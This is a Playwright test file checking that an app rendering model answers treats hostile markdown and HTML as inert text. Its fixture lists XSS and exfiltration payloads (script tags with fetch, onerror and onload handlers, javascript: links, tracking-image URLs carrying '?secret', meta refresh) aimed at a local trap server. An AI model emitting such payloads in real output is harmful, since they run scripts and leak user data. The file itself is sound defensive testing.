import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { BAD_GATEWAY_PAGE } from "../fixtures/openai-server/scenarios/refusals";
import { expect, test } from "../fixtures/test";

// None of this depends on the service worker, and the pages load quicker without.
test.use({ serviceWorkers: "block" });

/** An address that hostile output would like to reach; it counts who comes. */
let trap: { server: Server; origin: string; visits: string[] };

test.beforeEach(async () => {
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("caught");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  trap = { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, visits };
});
test.afterEach(() => {
  trap.server.closeAllConnections();
  trap.server.close();
});

/** Everything that markdown and HTML have to run a script, to fetch, or to hide where a link leads. */
function hostileAnswer(origin: string): string {
  return [
    "# Summary",
    `![pixel](${origin}/image?secret)`,
    `![by reference][pixel]\n\n[pixel]: ${origin}/reference?secret`,
    `[![in a link](${origin}/image-in-link)](${origin}/around-image)`,
    `[your bank](${origin}/a/long/path?account=1#top)`,
    "[run](javascript:document.title='pwned')",
    "[data](data:text/html,<script>document.title='pwned'</script>)",
    `<script>document.title = "pwned"; fetch("${origin}/script")</script>`,
    `<img src="${origin}/html-image" onerror="document.title='pwned'">`,
    `<svg onload="document.title='pwned'"><image href="${origin}/svg-image"/></svg>`,
    `<iframe src="${origin}/frame" srcdoc="<script>parent.document.title='pwned'</script>"></iframe>`,
    `<style>@import url("${origin}/style"); body { display: none }</style>`,
    `<link rel="stylesheet" href="${origin}/stylesheet"><meta http-equiv="refresh" content="0;url=${origin}/refresh">`,
    `<form action="${origin}/form"><input name="q" autofocus onfocus="document.title='pwned'"></form>`,
    "- [x] done\n- [ ] open",
    `<${origin}/autolink>`,
    "The end.",
  ].join("\n\n");
}

test("U1 hostile markdown runs nothing and fetches nothing, and links show where they lead", async ({
  app,
  endpoint,
  network,
  page,
}) => {
  await app.goto();
  await app.useEndpoint(endpoint);
  endpoint.settings.answer = hostileAnswer(trap.origin);
  const title = await page.title();
  await app.run({ task: "Free prompt", route: "Cloud", text: "Summarise my mail" });
  await app.expectEnd("Cloud");
  const output = app.output("Cloud");
  await expect(output.getByRole("heading", { name: "Summary", level: 3 })).toBeVisible();
  await expect(output.getByText("The end.")).toBeVisible();
  await network.quiet(1000);

  expect(trap.visits).toEqual([]);
  expect(network.requests.filter(({ url }) => url.startsWith(trap.origin))).toEqual([]);
  expect(await page.title()).toBe(title);
  await expect(
    output.locator("img, script, iframe, style, link, meta, form, svg image, object, embed"),
  ).toHaveCount(0);
  await expect(app.runButton).toBeVisible();

  await expect(output.getByRole("link", { name: "your bank" })).toHaveAttribute(
    "rel",
    /(?=.*noopener)(?=.*noreferrer)/,
  );
  await expect(output).toContainText(`your bank (${trap.origin}/a/long/path?account=1#top)`);
  await expect(output).toContainText(`pixel. Image not loaded.`);
  await expect(output).toContainText(`${trap.origin}/image?secret`);
  await expect(output).toContainText(`${trap.origin}/reference?secret`);
  const targets = await output
    .locator("a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(targets.length).toBeGreaterThan(3);
  expect(targets.filter((target) => !target.startsWith(`${trap.origin}/`))).toEqual([]);

  await page.reload();
  await expect(output.getByText("The end.")).toBeVisible();
  await network.quiet(1000);
  expect(trap.visits).toEqual([]);
  expect(await page.title()).toBe(title);
});

test("U1 an error page with a script in it is shown as text", async ({ app, endpoint, page }) => {
  await app.goto();
  await app.useEndpoint(endpoint);
  endpoint.always("bad-gateway");
  const title = await page.title();
  await app.run({ task: "Free prompt", route: "Cloud", text: "Hello" });
  await app.expectEnd("Cloud", "Failed");
  const alert = app.region("Cloud").getByRole("alert");
  await alert.getByText("What it said", { exact: true }).click();
  await expect(alert.locator("pre")).toContainText("<script>document.title = 'pwned';</script>");
  expect(BAD_GATEWAY_PAGE).toContain((await alert.locator("pre").textContent()) ?? "");
  expect(await page.title()).toBe(title);
  await expect(alert.locator("img, script, h1")).toHaveCount(0);
});

test("U1 a hostile text of one's own is drawn as text in every kind of result", async ({ app, page }) => {
  await app.goto();
  const title = await page.title();
  const text = `I have recieved <img src=x onerror="document.title='pwned'"> teh letter.`;
  await app.run({ task: "Proofread", route: "On device", text });
  await app.expectEnd("On device");
  await expect(app.output("On device")).toContainText(`<img src=x onerror="document.title='pwned'">`);
  await expect(app.output("On device").locator("img")).toHaveCount(0);
  expect(await page.title()).toBe(title);
});
